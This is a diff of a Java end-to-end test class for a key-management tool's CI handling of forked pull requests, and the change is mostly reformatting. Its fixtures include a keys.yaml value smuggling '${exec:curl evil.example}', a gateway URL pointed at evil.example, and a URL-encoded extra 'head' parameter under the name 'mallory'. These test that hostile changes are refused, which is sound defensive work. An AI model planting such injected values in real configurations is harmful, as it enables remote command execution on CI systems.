@@ -4,8 +4,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assumptions.assumeThat;
 
 import dev.keywright.endtoend.CiScripts.Ended;
-import dev.keywright.tyk.KeySettings;
 import dev.keywright.testing.ForgeDouble;
+import dev.keywright.tyk.KeySettings;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
@@ -33,7 +33,8 @@ class CiForkTest {
 
     @BeforeEach
     void start() throws Exception {
-        assumeThat(Stream.of("bash", "curl", "jq", "git").allMatch(CiForkTest::isThere)).isTrue();
+        assumeThat(Stream.of("bash", "curl", "jq", "git").allMatch(CiForkTest::isThere))
+                .isTrue();
         world = new World(temp, KeySettings.HASHED);
         forge = new ForgeDouble(ForgeDouble.BOT);
         ci = new CiScripts(world, forge, temp);
@@ -114,8 +115,9 @@ class CiForkTest {
 
         assertThat(files.code()).as(files.said()).isZero();
         assertThat(ci.outputs()).containsEntry("number", "7").containsKey("head");
-        assertThat(forge.requests).containsExactly(
-                "GET /repos/acme/gateway/pulls?state=open&per_page=100&head=mallory%3Ame%26head%3Dother%3Amain%23");
+        assertThat(forge.requests)
+                .containsExactly(
+                        "GET /repos/acme/gateway/pulls?state=open&per_page=100&head=mallory%3Ame%26head%3Dother%3Amain%23");
         assertThat(change.resolve("keys.yaml")).content().contains("asked");
         Ended ended = check();
         assertThat(ended.code()).as(ended.said()).isZero();
@@ -151,7 +153,8 @@ class CiForkTest {
         assertThat(files.code()).as(files.said()).isZero();
         assertThat(witness).doesNotExist();
         try (Stream<Path> all = Files.walk(change)) {
-            assertThat(all.filter(file -> !Files.isDirectory(file)).map(file -> change.relativize(file).toString()))
+            assertThat(all.filter(file -> !Files.isDirectory(file))
+                            .map(file -> change.relativize(file).toString()))
                     .containsExactlyInAnyOrder(
                             "keywright.yaml",
                             "keys.yaml",
@@ -165,7 +168,9 @@ class CiForkTest {
     @Test
     void aChangeOfTheGatewayIsRefusedInTheComment() throws Exception {
         world.write("keywright.yaml", World.PROJECT.replace("${env:TYK_GATEWAY_URL}", "https://evil.example"));
-        world.write("keys.yaml", "keys:\n  a: " + KEY.replace("{access", "{key: \"${exec:curl evil.example}\", access") + "\n");
+        world.write(
+                "keys.yaml",
+                "keys:\n  a: " + KEY.replace("{access", "{key: \"${exec:curl evil.example}\", access") + "\n");
 
         assertThat(filesOf("main").code()).isZero();
         Ended ended = check();
